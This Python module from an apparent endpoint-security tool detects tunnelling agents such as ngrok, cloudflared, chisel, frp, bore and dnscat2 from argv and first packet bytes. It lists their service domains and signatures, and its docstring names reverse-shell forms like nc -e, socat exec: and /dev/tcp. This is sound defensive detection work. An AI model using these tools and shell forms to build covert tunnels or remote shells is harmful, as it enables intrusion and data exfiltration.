# SPDX-License-Identifier: Apache-2.0
"""Tunnelling tools and reverse shells: recognised by their argv and first bytes.

Three questions, one per public function:

- classify_tunnel_exec: is this exec a tunnelling agent (ngrok, cloudflared,
  chisel, frp, bore, localtunnel and friends) asked to open a tunnel?
- classify_tunnel_payload: do the first bytes of a flow, or the names the
  caller saw for it (TLS SNI, HTTP Host, DNS), belong to such an agent?
- classify_reverse_shell: does this argv hand a shell to a socket, directly
  (nc -e, socat exec:) or through a `sh -c` string (/dev/tcp redirections,
  fifo back-pipes, interpreter one-liners)?

The argv forms, ports and names come from the tools' own sources and docs,
Sigma and Falco rules and ET Open (see shared/reference/signatures.md, 4).
Everything is pure: hostile input yields an empty list, never an exception.
"""
from __future__ import annotations

import itertools
import posixpath
import re
from dataclasses import dataclass, field
from typing import Any, Callable, Iterable, Sequence

from guard.detect.classify import Finding, http_head_fields, jsonc
from guard.detect.classify.tls import parse_tls_client_hello

#: How much of a payload or a script is looked at: first flights are small,
#: and a bound keeps hostile input from costing more than it is worth.
MAX_PAYLOAD = 16 * 1024
MAX_SCRIPT = 16 * 1024
#: Nesting of `sh -c "python -c '...os.system(\"bash -c ...\")'"` followed.
MAX_DEPTH = 4

_CONFIDENCE_RANK = {"low": 0, "medium": 1, "high": 2}


# --------------------------------------------------------------------------
# Small shared helpers


def _as_argv(argv: Any) -> list[str]:
    """The string items of an argv; anything else yields an empty argv."""
    if isinstance(argv, (str, bytes)) or not isinstance(argv, Sequence):
        return []
    return [item for item in argv if isinstance(item, str)]


def _basename(path: str) -> str:
    return posixpath.basename(path.rstrip("/")) if path else ""


def _truncate(text: str, limit: int = 256) -> str:
    return text if len(text) <= limit else text[:limit] + "..."


def _port_number(text: str | None) -> int | None:
    if text and text.isascii() and text.isdigit() and len(text) <= 5 and int(text) <= 65535:
        return int(text)
    return None


def _target(host: str | None, port: str | int | None) -> dict[str, Any] | None:
    """Evidence for where a connection goes; None when nothing is known."""
    if not host and port is None:
        return None
    target: dict[str, Any] = {}
    if host:
        target["host"] = host
    number = port if isinstance(port, int) else _port_number(port)
    if number is not None:
        target["port"] = number
    elif isinstance(port, str) and port:
        target["port"] = port
    return target


def _split_host_port(text: str) -> tuple[str | None, str | None]:
    """`host:port`, `[v6]:port` or a bare host."""
    if text.startswith("["):
        end = text.find("]")
        if end > 0:
            rest = text[end + 1:]
            return text[1:end], rest[1:] if rest.startswith(":") else None
    host, sep, port = text.rpartition(":")
    if not sep or ":" in host:
        return text or None, None
    return host or None, port or None


def dedupe_findings(findings: Iterable[Finding]) -> list[Finding]:
    """One finding per (type, dialect, pattern): the most confident, first seen on ties."""
    best: dict[tuple[str, str | None, Any], Finding] = {}
    order: list[tuple[str, str | None, Any]] = []
    for finding in findings:
        key = (finding.type, finding.dialect, finding.evidence.get("pattern"))
        kept = best.get(key)
        if kept is None:
            order.append(key)
            best[key] = finding
        elif _CONFIDENCE_RANK[finding.confidence] > _CONFIDENCE_RANK[kept.confidence]:
            best[key] = finding
    return [best[key] for key in order]


# --------------------------------------------------------------------------
# Launchers: programs that run another program named in their own argv


def _skip_options(args: list[str], with_value: frozenset[str]) -> int:
    """Index of the first operand after short/long options (GNU style)."""
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            return i + 1
        if not arg.startswith("-") or arg == "-":
            return i
        if arg.startswith("--"):
            if "=" not in arg and arg in with_value:
                i += 1
        elif arg[:2] in with_value and len(arg) == 2:
            i += 1
        i += 1
    return i


def _after_env(argv: list[str]) -> list[str] | None:
    i = 1
    while i < len(argv):
        arg = argv[i]
        if arg in ("-u", "--unset", "-C", "--chdir"):
            i += 2
            continue
        if arg in ("-S", "--split-string") and i + 1 < len(argv):
            # env -S splits one string into words; the command is in there
            return argv[i + 1].split() + argv[i + 2:]
        if arg.startswith("-S") and len(arg) > 2:
            return arg[2:].split() + argv[i + 1:]
        if arg == "--":
            i += 1
            break
        if arg.startswith("-") and arg != "-":
            i += 1
            continue
        if "=" in arg and not arg.startswith("="):
            i += 1
            continue
        break
    return argv[i:]


def _after_simple_options(with_value: frozenset[str]) -> Callable[[list[str]], list[str]]:
    def unwrap(argv: list[str]) -> list[str]:
        return argv[1 + _skip_options(argv[1:], with_value):]
    return unwrap


def _after_timeout(argv: list[str]) -> list[str]:
    start = 1 + _skip_options(argv[1:], frozenset({"-s", "-k", "--signal", "--kill-after"}))
    return argv[start + 1:]        # the duration comes before the command


def _after_chroot(argv: list[str]) -> list[str]:
    start = 1 + _skip_options(argv[1:], frozenset({"--userspec", "--groups"}))
    return argv[start + 1:]        # the new root comes before the command


def _after_exec_builtin(argv: list[str]) -> list[str]:
    return argv[1 + _skip_options(argv[1:], frozenset({"-a"})):]


_LAUNCHERS: dict[str, Callable[[list[str]], list[str] | None]] = {
    "env": _after_env,
    "nohup": lambda argv: argv[1:],
    "setsid": _after_simple_options(frozenset()),
    "timeout": _after_timeout,
    "nice": _after_simple_options(frozenset({"-n", "--adjustment"})),
    "stdbuf": _after_simple_options(frozenset({"-i", "-o", "-e", "--input", "--output", "--error"})),
    "sudo": _after_simple_options(frozenset({"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U",
                                             "-T", "--user", "--group", "--chdir", "--host",
                                             "--prompt", "--role", "--type", "--other-user",
                                             "--command-timeout", "--close-from"})),
    "doas": _after_simple_options(frozenset({"-u", "-C"})),
    "exec": _after_exec_builtin,
    "command": _after_exec_builtin,
    "builtin": _after_exec_builtin,
    "time": _after_simple_options(frozenset({"-f", "-o", "--format", "--output"})),
    "busybox": lambda argv: argv[1:],
    "toybox": lambda argv: argv[1:],
    "chroot": _after_chroot,
}

_NODE_SCRIPT_SUFFIXES = (".js", ".mjs", ".cjs")
_PACKAGE_RUNNERS = {"npx", "bunx"}
_PACKAGE_MANAGERS_WITH_DLX = {"pnpm": "dlx", "yarn": "dlx", "npm": "exec"}


def _package_name(spec: str) -> str:
    """`localtunnel@2.0.2` -> `localtunnel`; `@scope/pkg@1` -> `pkg`."""
    name = spec[1:] if spec.startswith("@") else spec
    name = name.split("@", 1)[0]
    return name.rsplit("/", 1)[-1]


def _after_script_runner(argv: list[str]) -> list[str] | None:
    """`npx localtunnel --port 1`, `node .../bin/lt.js --port 1`, `python pagekite.py`.

    Node and Python tools run as scripts, so the exec shows the interpreter
    and the tool only appears as an argument."""
    name = _basename(argv[0])
    args = argv[1:]
    if name in _PACKAGE_MANAGERS_WITH_DLX and args[:1] == [_PACKAGE_MANAGERS_WITH_DLX[name]]:
        name, args = "npx", args[1:]
    if name in _PACKAGE_RUNNERS:
        start = _skip_options(args, frozenset({"-p", "--package", "-c", "--call"}))
        if start < len(args):
            return [_package_name(args[start])] + args[start + 1:]
        return None
    if name in ("node", "nodejs", "bun", "deno") or re.fullmatch(r"python[0-9.]*|pypy[0-9.]*", name):
        start = _skip_options(args, frozenset({"-r", "--require", "-X", "-W", "--import"}))
        if start < len(args) and not args[start - 1:start] == ["-m"]:
            script = args[start]
            base = _basename(script)
            for suffix in _NODE_SCRIPT_SUFFIXES:
                if base.endswith(suffix):
                    base = base[: -len(suffix)]
            return [base] + args[start + 1:]
    return None


def unwrap_launchers(argv: Sequence[str], *, scripts: bool = False) -> list[str]:
    """The argv of the program a chain of launchers (env, nohup, sudo, timeout,
    busybox, ...) finally runs. With scripts=True, also look through package
    runners and interpreters running a tool's script (npx, node, python)."""
    current = _as_argv(argv)
    for _ in range(8):
        if not current:
            break
        step = _LAUNCHERS.get(_basename(current[0]))
        following = step(current) if step else None
        if following is None and scripts:
            following = _after_script_runner(current)
        if following is None or following == current:
            break
        current = following
    return current


# --------------------------------------------------------------------------
# Names of tunnelling services


@dataclass(frozen=True)
class TunnelName:
    """A DNS suffix that belongs to a tunnelling service.

    role "agent": the tool's own control plane (only its agent connects
    there); "public": the URLs a tunnel hands out, which anyone may visit."""
    suffix: str
    dialect: str
    role: str

    def matches(self, name: str) -> bool:
        return name == self.suffix or name.endswith("." + self.suffix)


TUNNEL_NAMES: tuple[TunnelName, ...] = (
    # ngrok: agents dial connect.ngrok-agent.com (tunnel.*.ngrok.com before 3.3.0)
    TunnelName("ngrok-agent.com", "ngrok", "agent"),
    TunnelName("ngrok.io", "ngrok", "public"),
    TunnelName("ngrok-free.app", "ngrok", "public"),
    TunnelName("ngrok-free.dev", "ngrok", "public"),
    TunnelName("ngrok.app", "ngrok", "public"),
    TunnelName("ngrok.dev", "ngrok", "public"),
    TunnelName("ngrok.pizza", "ngrok", "public"),
    # cloudflared: region1/region2.v2.argotunnel.com on 7844, SNI *.cftunnel.com
    TunnelName("argotunnel.com", "cloudflared", "agent"),
    TunnelName("cftunnel.com", "cloudflared", "agent"),
    TunnelName("api.trycloudflare.com", "cloudflared", "agent"),
    TunnelName("trycloudflare.com", "cloudflared", "public"),
    # localtunnel: setup against localtunnel.me, then raw TCP to loca.lt:<port>
    TunnelName("localtunnel.me", "localtunnel", "agent"),
    TunnelName("loca.lt", "localtunnel", "public"),
    # SSH-based services: the agent is plain ssh
    TunnelName("serveo.net", "serveo", "agent"),
    TunnelName("serveousercontent.com", "serveo", "public"),
    TunnelName("localhost.run", "localhost.run", "agent"),
    TunnelName("lhr.life", "localhost.run", "public"),
    TunnelName("pinggy.io", "pinggy", "agent"),
    TunnelName("pinggy.link", "pinggy", "public"),
    TunnelName("pinggy.online", "pinggy", "public"),
    TunnelName("pktriot.net", "packetriot", "agent"),
    TunnelName("reversetunnel.net", "packetriot", "agent"),
    TunnelName("bore.pub", "bore", "agent"),
    TunnelName("devtunnels.ms", "devtunnel", "public"),
    TunnelName("tunnels.api.visualstudio.com", "devtunnel", "agent"),
    TunnelName("zrok.io", "zrok", "agent"),
    TunnelName("tunnelmole.net", "tunnelmole", "agent"),
    TunnelName("loclx.io", "localxpose", "agent"),
    TunnelName("localxpose.io", "localxpose", "agent"),
    TunnelName("pagekite.me", "pagekite", "agent"),
)

_TUNNEL_SUFFIXES = {entry.suffix: entry for entry in TUNNEL_NAMES}

_NGROK_LEGACY_AGENT = re.compile(r"tunnel(\.[a-z0-9-]+)?\.ngrok\.com")


_NAME_CHARS = re.compile(r"[a-z0-9._*-]+")


def normalise_name(name: Any) -> str:
    """Lower case, no trailing dot, no `:port`; "" when not a usable name."""
    if not isinstance(name, str):
        return ""
    text = name.strip().lower()
    if text.startswith("["):
        return ""
    host, _, port = text.rpartition(":")
    if host and port.isdigit():
        text = host
    text = text.rstrip(".")
    if not text or len(text) > 253 or not _NAME_CHARS.fullmatch(text):
        return ""
    return text


def tunnel_name(name: Any) -> TunnelName | None:
    """The tunnelling service a host name belongs to, or None."""
    text = normalise_name(name)
    if not text:
        return None
    if _NGROK_LEGACY_AGENT.fullmatch(text):
        return TunnelName(text, "ngrok", "agent")
    # The most specific suffix wins (api.trycloudflare.com before trycloudflare.com):
    # try the name itself, then each parent domain, in one dict lookup each.
    while True:
        entry = _TUNNEL_SUFFIXES.get(text)
        if entry is not None:
            return entry
        _, dot, text = text.partition(".")
        if not dot:
            return None


# --------------------------------------------------------------------------
# Tunnel tools by exec


_SECRET_FLAG = re.compile(r"token|secret|passw|auth|api[-_]?key|privilege[-_]key", re.I)


def _flag_name(arg: str) -> str:
    return arg.lstrip("-").split("=", 1)[0]


def _redacted_argv(argv: list[str], secret_positions: Iterable[int] = (),
                   secret_flags: frozenset[str] = frozenset()) -> list[str]:
    """argv for evidence: secrets replaced, long lists and items cut."""
    hidden = set(secret_positions)
    out: list[str] = []
    redact_next = False
    for index, arg in enumerate(argv[:24]):
        if redact_next or index in hidden:
            out.append("<redacted>")
            redact_next = False
            continue
        if arg.startswith("-") and (_SECRET_FLAG.search(_flag_name(arg))
                                    or _flag_name(arg) in secret_flags):
            if "=" in arg:
                out.append(arg.split("=", 1)[0] + "=<redacted>")
            else:
                out.append(arg)
                redact_next = True
            continue
        out.append(_truncate(arg, 200))
    if len(argv) > 24:
        out.append(f"... {len(argv) - 24} more")
    return out


@dataclass
class _Parsed:
    """Flags and operands of a Go/cobra-style command line (`-f v`, `--f=v`, `--f v`)."""
    positional: list[str] = field(default_factory=list)
    flags: dict[str, str | bool] = field(default_factory=dict)

    def value(self, *names: str) -> str | None:
        for name in names:
            found = self.flags.get(name)
            if isinstance(found, str):
                return found
        return None

    def has(self, *names: str) -> bool:
        return any(name in self.flags for name in names)


def _parse_flags(args: list[str], with_value: frozenset[str]) -> _Parsed:
    parsed = _Parsed()
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            parsed.positional.extend(args[i + 1:])
            break
        if arg.startswith("-") and arg != "-":
            name, eq, value = arg.lstrip("-").partition("=")
            if eq:
                parsed.flags.setdefault(name, value)
            elif name in with_value and i + 1 < len(args):
                parsed.flags.setdefault(name, args[i + 1])
                i += 1
            else:
                parsed.flags.setdefault(name, True)
        else:
            parsed.positional.append(arg)
        i += 1
    return parsed


#: Short flags that carry secrets without saying so (frpc -t TOKEN, bore -s SECRET).
_TOOL_SECRET_FLAGS = {"frp": frozenset({"t"}), "bore": frozenset({"s"})}


def _tool_finding(dialect: str, confidence: str, argv: list[str], secret_positions: Iterable[int] = (),
                  **extra: Any) -> list[Finding]:
    evidence: dict[str, Any] = {
        "argv": _redacted_argv(argv, secret_positions, _TOOL_SECRET_FLAGS.get(dialect, frozenset()))}
    evidence.update({key: value for key, value in extra.items() if value not in (None, [], "")})
    return [Finding(type="tunnel_tool", confidence=confidence, dialect=dialect, evidence=evidence)]


_NGROK_VALUE_FLAGS = frozenset({
    "config", "log", "log-format", "log-level", "authtoken", "region", "api-key", "url", "domain",
    "hostname", "subdomain", "remote-addr", "basic-auth", "oauth", "label", "host-header",
    "traffic-policy-file", "metadata", "proto", "scheme", "cidr-allow", "cidr-deny", "binding",
    "pooling-enabled", "upstream-protocol", "description",
})
_NGROK_TUNNELS = {"http", "tcp", "tls", "start", "tunnel", "service"}


def _ngrok(argv: list[str]) -> list[Finding]:
    parsed = _parse_flags(argv[1:], _NGROK_VALUE_FLAGS)
    words = parsed.positional
    sub = words[0] if words else None
    detail = {"subcommand": sub, "target": words[1] if len(words) > 1 else None,
              "url": parsed.value("url", "domain", "hostname", "subdomain", "remote-addr")}
    if sub in _NGROK_TUNNELS:
        return _tool_finding("ngrok", "high", argv, **detail)
    if sub == "authtoken" or (sub == "config" and words[1:2] in (["add-authtoken"], ["add-api-key"])):
        secret = [argv.index(word) for word in words[1:3] if word not in ("add-authtoken", "add-api-key")]
        action = "authtoken" if sub == "authtoken" else "config " + words[1]
        return _tool_finding("ngrok", "medium", argv, secret, subcommand=action)
    return _tool_finding("ngrok", "low", argv, subcommand=sub)


_CLOUDFLARED_VALUE_FLAGS = frozenset({
    "url", "token", "credentials-file", "cred-file", "config", "hostname", "name", "loglevel",
    "logfile", "log-directory", "origincert", "metrics", "protocol", "edge-ip-version", "region",
    "pidfile", "proxy-dns-port", "service-token-id", "service-token-secret", "tag", "label",
    "transport-loglevel", "retries", "grace-period", "lb-pool", "edge", "id", "overwrite-dns",
    "token-file",
})
_CLOUDFLARED_MANAGEMENT = {"login", "create", "route", "list", "info", "delete", "cleanup", "token",
                           "ingress", "vnet", "diag", "update"}


def _cloudflared(argv: list[str]) -> list[Finding]:
    parsed = _parse_flags(argv[1:], _CLOUDFLARED_VALUE_FLAGS)
    words = parsed.positional
    sub = words[0] if words else None
    detail = {"subcommand": " ".join(words[:2]) or None, "url": parsed.value("url"),
              "hostname": parsed.value("hostname"),
              "credentials_file": parsed.value("credentials-file", "cred-file")}
    quick_or_token = parsed.has("url", "hello-world", "token", "token-file", "credentials-file",
                                "cred-file")
    if sub == "tunnel":
        action = words[1] if len(words) > 1 else None
        if action == "run" or (action is None and quick_or_token):
            return _tool_finding("cloudflared", "high", argv, **detail)
        if action in _CLOUDFLARED_MANAGEMENT or action is None:
            return _tool_finding("cloudflared", "medium", argv, **detail)
        return _tool_finding("cloudflared", "high", argv, **detail)   # `tunnel run` by name
    if sub == "service" and words[1:2] == ["install"]:
        secret = [argv.index(word) for word in words[2:3]]
        return _tool_finding("cloudflared", "high", argv, secret, subcommand="service install")
    if sub == "access":
        return _tool_finding("cloudflared", "medium", argv, **detail)
    if sub is None and quick_or_token:
        # Old releases ran a quick tunnel straight from `cloudflared --url ...`.
        return _tool_finding("cloudflared", "high", argv, **detail)
    return _tool_finding("cloudflared", "low", argv, subcommand=sub)


_CHISEL_VALUE_FLAGS = frozenset({
    "fingerprint", "auth", "keepalive", "max-retry-count", "max-retry-interval", "proxy", "header",
    "hostname", "sni", "tls-ca", "tls-key", "tls-cert", "host", "port", "p", "key", "keygen",
    "keyfile", "authfile", "backend", "tls-domain",
})


def _chisel(argv: list[str]) -> list[Finding]:
    sub = argv[1] if len(argv) > 1 else None
    parsed = _parse_flags(argv[2:], _CHISEL_VALUE_FLAGS)
    if sub == "client":
        server, remotes = (parsed.positional[0], parsed.positional[1:]) if parsed.positional else (None, [])
        reverse = [remote for remote in remotes if remote.startswith("R:")]
        confidence = "high" if remotes else "medium"
        return _tool_finding("chisel", confidence, argv, subcommand="client", server=server,
                             remotes=remotes[:16], reverse=bool(reverse))
    if sub == "server":
        reverse = parsed.has("reverse")
        return _tool_finding("chisel", "high" if reverse else "medium", argv, subcommand="server",
                             reverse=reverse, port=parsed.value("port", "p"))
    return _tool_finding("chisel", "low", argv, subcommand=sub)


_FRP_VALUE_FLAGS = frozenset({
    "c", "config", "s", "server_addr", "server-addr", "p", "server_port", "server-port",
    "t", "token", "l", "local_port", "local-port", "r", "remote_port", "remote-port", "i",
    "local_ip", "local-ip", "n", "proxy_name", "proxy-name", "u", "user", "protocol",
    "sd", "sub_domain", "custom_domain", "custom-domain", "locations", "bind_addr",
    "bind-addr", "bind_port", "bind-port", "config_dir", "config-dir",
})
_FRPC_QUICK_PROXIES = {"tcp", "udp", "http", "https", "stcp", "sudp", "xtcp", "tcpmux"}


def _frpc(argv: list[str]) -> list[Finding]:
    parsed = _parse_flags(argv[1:], _FRP_VALUE_FLAGS)
    sub = parsed.positional[0] if parsed.positional else None
    config = parsed.value("c", "config")
    if parsed.has("v", "version", "h", "help") and sub is None:
        return _tool_finding("frp", "low", argv, role="client")
    if sub in _FRPC_QUICK_PROXIES:
        return _tool_finding("frp", "high", argv, role="client", subcommand=sub,
                             server=parsed.value("s", "server_addr", "server-addr"),
                             remote_port=parsed.value("r", "remote_port", "remote-port"))
    if sub in ("verify", "status", "reload", "stop", "nathole"):
        return _tool_finding("frp", "medium", argv, role="client", subcommand=sub, config=config)
    # A bare frpc still runs: it loads ./frpc.ini (./frpc.toml in newer releases),
    # so unlike the other tools it is not merely a name on its own.
    return _tool_finding("frp", "high" if config else "medium", argv, role="client", config=config)


def _frps(argv: list[str]) -> list[Finding]:
    parsed = _parse_flags(argv[1:], _FRP_VALUE_FLAGS)
    if len(argv) == 1 or parsed.has("v", "version", "h", "help"):
        return _tool_finding("frp", "low", argv, role="server")
    return _tool_finding("frp", "medium", argv, role="server", config=parsed.value("c", "config"))


def _bore(argv: list[str]) -> list[Finding]:
    parsed = _parse_flags(argv[1:], frozenset({"to", "t", "port", "p", "secret", "s", "local-host",
                                                "l", "min-port", "max-port", "bind-addr",
                                                "bind-tunnels"}))
    sub = parsed.positional[0] if parsed.positional else None
    if sub == "local":
        return _tool_finding("bore", "high", argv, subcommand="local",
                             local_port=parsed.positional[1] if len(parsed.positional) > 1 else None,
                             server=parsed.value("to", "t"), remote_port=parsed.value("port", "p"))
    if sub == "server":
        return _tool_finding("bore", "medium", argv, subcommand="server")
    return _tool_finding("bore", "low", argv, subcommand=sub)


def _localtunnel(argv: list[str]) -> list[Finding]:
    parsed = _parse_flags(argv[1:], frozenset({"port", "p", "host", "h", "subdomain", "s",
                                                "local-host", "l", "local-cert", "local-key",
                                                "local-ca"}))
    port = parsed.value("port", "p")
    if port is None:
        return _tool_finding("localtunnel", "low", argv)
    return _tool_finding("localtunnel", "high", argv, port=port, host=parsed.value("host", "h"),
                         subdomain=parsed.value("subdomain", "s"))


def _subcommand_rule(dialect: str, tunnel: set[str], setup: set[str] = frozenset(),
                     value_flags: frozenset[str] = frozenset(), any_operand: bool = False,
                     secret_after: set[str] = frozenset()) -> Callable[[list[str]], list[Finding]]:
    """A tool whose first operand says what it does: `tunnel` words open a
    tunnel (high), `setup` words prepare one (medium), anything else is low.
    any_operand: the tool opens a tunnel whenever it is given an operand."""
    def rule(argv: list[str]) -> list[Finding]:
        parsed = _parse_flags(argv[1:], value_flags)
        words = parsed.positional
        sub = words[0] if words else None
        secret = [argv.index(words[1])] if sub in secret_after and len(words) > 1 else []
        if sub in tunnel or (any_operand and sub is not None):
            return _tool_finding(dialect, "high", argv, subcommand=sub,
                                 operands=[_truncate(w, 200) for w in words[1:8]])
        if sub in setup:
            return _tool_finding(dialect, "medium", argv, secret, subcommand=sub)
        return _tool_finding(dialect, "low", argv, subcommand=sub)
    return rule


def _gost(argv: list[str]) -> list[Finding]:
    listeners = [argv[i + 1] for i, arg in enumerate(argv[:-1]) if arg == "-L"]
    listeners += [arg[2:].lstrip("=") for arg in argv if arg.startswith("-L") and len(arg) > 2]
    reverse = [spec for spec in listeners if re.match(r"r(tcp|udp)://", spec)]
    if reverse:
        return _tool_finding("gost", "high", argv, reverse=reverse[:8])
    if "-F" in argv or any(arg.startswith("-F=") for arg in argv):
        return _tool_finding("gost", "medium", argv)
    return _tool_finding("gost", "low", argv)


def _tailscale(argv: list[str]) -> list[Finding]:
    # tailscale is a VPN client; only `funnel` publishes a local port to the internet.
    parsed = _parse_flags(argv[1:], frozenset({"socket", "https", "http", "tcp", "tls-terminated-tcp",
                                                "set-path", "bg"}))
    sub = parsed.positional[0] if parsed.positional else None
    if sub == "funnel":
        return _tool_finding("tailscale", "high", argv, subcommand=sub)
    if sub == "serve":
        return _tool_finding("tailscale", "medium", argv, subcommand=sub)
    return []


def _rathole(argv: list[str]) -> list[Finding]:
    parsed = _parse_flags(argv[1:], frozenset())
    if parsed.has("server", "s"):
        return _tool_finding("rathole", "medium", argv, role="server")
    if parsed.positional or parsed.has("client", "c"):
        return _tool_finding("rathole", "high", argv, role="client",
                             config=parsed.positional[0] if parsed.positional else None)
    return _tool_finding("rathole", "low", argv)


_TUNNEL_TOOLS: dict[str, Callable[[list[str]], list[Finding]]] = {
    "ngrok": _ngrok,
    "cloudflared": _cloudflared,
    "chisel": _chisel,
    "frpc": _frpc,
    "frps": _frps,
    "bore": _bore,
    "lt": _localtunnel,
    "localtunnel": _localtunnel,
    "pktriot": _subcommand_rule("packetriot", {"http", "https", "tcp", "start", "tunnel"},
                                {"configure", "route", "edit"}),
    "zrok": _subcommand_rule("zrok", {"share", "reserve"}, {"enable", "invite"},
                             secret_after={"enable"}),
    "tunnelmole": _subcommand_rule("tunnelmole", set(), any_operand=True),
    "tmole": _subcommand_rule("tunnelmole", set(), any_operand=True),
    "loclx": _subcommand_rule("localxpose", {"tunnel"}, {"account"}),
    "pagekite": _subcommand_rule("pagekite", set(), any_operand=True),
    "inlets": _subcommand_rule("inlets", {"client", "tcp", "http"}, {"server"}),
    "inlets-pro": _subcommand_rule("inlets", {"client", "tcp", "http"}, {"server"}),
    "devtunnel": _subcommand_rule("devtunnel", {"host"}, {"create", "port", "token", "access"}),
    "tailscale": _tailscale,
    "gost": _gost,
    "rathole": _rathole,
    "iodine": _subcommand_rule("iodine", set(), any_operand=True,
                               value_flags=frozenset({"u", "t", "d", "R", "m", "M", "T", "O", "L",
                                                      "I", "P", "F", "z"})),
    "dnscat": _subcommand_rule("dnscat2", set(), any_operand=True,
                               value_flags=frozenset({"dns", "secret", "delay"})),
}

#: Program names of tunnelling agents (the kernel stops them at exec under block).
TUNNEL_TOOL_NAMES = frozenset(_TUNNEL_TOOLS)

#: Names a downloaded release keeps (cloudflared-linux-amd64, chisel_1.9.1_linux_amd64).
_RELEASE_SUFFIX = re.compile(r"[-_.](v?[0-9][^/]*|linux|darwin|windows|freebsd|amd64|arm64|aarch64|"
                             r"x86_64|x86|i386|386|armv[0-9]+|arm|musl|gnu).*")


def tunnel_tool_name(program: str) -> str | None:
    """The tunnel tool a program name stands for, or None."""
    name = _basename(program).lower()
    for suffix in (".exe", ".py", ".js", ".mjs", ".cjs"):
        if name.endswith(suffix):
            name = name[: -len(suffix)]
    if name in _TUNNEL_TOOLS:
        return name
    stripped = _RELEASE_SUFFIX.sub("", name)
    if stripped in _TUNNEL_TOOLS and len(stripped) > 3:    # never turn `lt-foo` into lt
        return stripped
    return None


def classify_tunnel_exec(argv: Sequence[str]) -> list[Finding]:
    """Findings of type tunnel_tool for an exec of a tunnelling agent.

    High when the argv asks for a tunnel (ngrok http 8080, cloudflared tunnel
    run, chisel client ... R:..., frpc -c, bore local, lt --port), medium for
    setting one up (ngrok config add-authtoken, cloudflared tunnel create),
    low for the bare name or help/version. Secrets in the argv are redacted."""
    argv = unwrap_launchers(argv, scripts=True)
    if not argv:
        return []
    tool = tunnel_tool_name(argv[0])
    if tool is None:
        return []
    return _TUNNEL_TOOLS[tool](argv)


# --------------------------------------------------------------------------
# Tunnel tools by their first bytes


def _tls_client_hello_sni(data: bytes) -> str | None:
    """The server name of a TLS ClientHello at the start of data, or None."""
    hello = parse_tls_client_hello(data)
    return hello.server_name if hello else None


_HTTP_METHODS = (b"GET ", b"POST ", b"PUT ", b"HEAD ", b"OPTIONS ", b"PATCH ", b"DELETE ",
                 b"CONNECT ")


def _http_head(data: bytes) -> tuple[str, dict[str, str]] | None:
    """Start line and lower-cased headers of an HTTP/1 message at the start of data."""
    if not (data.startswith(_HTTP_METHODS) or data.startswith(b"HTTP/1.")):
        return None
    return http_head_fields(data.split(b"\r\n\r\n", 1)[0].decode("latin-1"))


def _host_of(parsed: tuple[str, dict[str, str]] | None) -> str | None:
    """The Host header, or a CONNECT request's target, of a parsed HTTP head."""
    if parsed is None:
        return None
    start, headers = parsed
    if start.startswith("CONNECT "):
        return start.split(" ")[1] if start.count(" ") >= 1 else None
    return headers.get("host")


def chisel_banner(data: bytes) -> Finding | None:
    """chisel's SSH identification (`SSH-chisel-v3-client`), sent inside its WebSocket."""
    if not data.startswith(b"SSH-chisel-"):
        return None
    match = _CHISEL_BANNER.match(data)
    if match is None:
        return None
    return Finding(type="tunnel_tool", confidence="high", dialect="chisel",
                   evidence={"signal": "ssh_banner", "banner": match.group(0).decode("ascii"),
                             "version": match.group(1).decode("ascii"),
                             "role": match.group(2).decode("ascii")})


_CHISEL_BANNER = re.compile(rb"SSH-chisel-(v[0-9]+)-(client|server)")
_CHISEL_PROTOCOL = re.compile(r"\bchisel-v[0-9]+\b", re.I)


def _chisel_payload(data: bytes, parsed: tuple[str, dict[str, str]] | None) -> list[Finding]:
    """parsed: data's HTTP head (_http_head), which the caller read once."""
    banner = chisel_banner(data)
    if banner is not None:
        return [banner]
    if parsed is None:
        return []
    start, headers = parsed
    protocol = headers.get("sec-websocket-protocol", "")
    if not protocol or not _CHISEL_PROTOCOL.search(protocol):
        return []
    return [Finding(type="tunnel_tool", confidence="high", dialect="chisel",
                    evidence={"signal": "websocket_protocol", "protocol": _truncate(protocol),
                              "start_line": _truncate(start), "host": headers.get("host")})]


#: bore's control messages: NUL-terminated JSON of a serde enum (src/shared.rs).
_BORE_MESSAGE = re.compile(
    rb'\{"(Hello|Accept|Authenticate|Challenge|Connection|Error)":("[^"\x00]{0,200}"|[0-9]{1,5})\}(\x00|\Z)')
BORE_CONTROL_PORT = 7835


def _bore_payload(data: bytes, dst_port: int | None) -> list[Finding]:
    if not data.startswith(b'{"'):
        return []
    match = _BORE_MESSAGE.match(data)
    if match is None:
        return []
    confidence = "high" if dst_port == BORE_CONTROL_PORT else "medium"
    return [Finding(type="tunnel_tool", confidence=confidence, dialect="bore",
                    evidence={"signal": "control_message",
                              "message": match.group(0).rstrip(b"\x00").decode("latin-1"),
                              "port": dst_port})]


FRP_DEFAULT_PORT = 7000
_FRP_LOGIN_KEYS = {"version", "os", "arch"}


def _frp_message(body: bytes) -> tuple[dict[str, Any], bool] | None:
    """frp's framing: one type byte, an int64 big-endian length, then JSON.
    Returns (the JSON of a Login ('o') message, whether it was complete)."""
    if len(body) < 10 or body[0] != ord("o") or body[9] != ord("{"):
        return None
    length = int.from_bytes(body[1:9], "big")
    if not 2 <= length <= 64 * 1024:
        return None
    text = body[9:9 + length]
    if len(text) == length:
        message = jsonc.loads_plain(text)      # depth checked first: json recurses
        if isinstance(message, dict) and _FRP_LOGIN_KEYS <= set(message):
            return message, True
        return None
    # Cut short by the capture: the framing and the leading "version" key
    # (Go writes struct fields in order) still say what it is.
    if re.match(rb'\{"version":"[0-9.]{1,16}"', text):
        return {"version": re.match(rb'\{"version":"([0-9.]*)"', text).group(1).decode()}, False
    return None


def _yamux_bodies(data: bytes) -> Iterable[bytes]:
    """Payloads of the yamux data frames frp sends when tcp_mux is on (the default)."""
    pos = 0
    for _ in range(16):
        header = data[pos:pos + 12]
        if len(header) < 12 or header[0] != 0 or header[1] > 3:
            return
        length = int.from_bytes(header[8:12], "big")
        if header[1] == 0:                      # data frame: the length is its body
            yield data[pos + 12:pos + 12 + length]
            pos += 12 + length
        else:                                   # window update / ping / go away: no body
            pos += 12


def _frp_payload(data: bytes, dst_port: int | None) -> list[Finding]:
    for body in [data, *_yamux_bodies(data)]:
        found = _frp_message(body)
        if found is not None:
            message, complete = found
            evidence = {"signal": "login", "port": dst_port,
                        "login": {key: _truncate(str(message[key]), 64)
                                  for key in ("version", "hostname", "os", "arch", "user")
                                  if message.get(key) is not None}}
            if not complete:
                evidence["truncated"] = True
            return [Finding(type="tunnel_tool", confidence="high" if complete else "medium",
                            dialect="frp", evidence=evidence)]
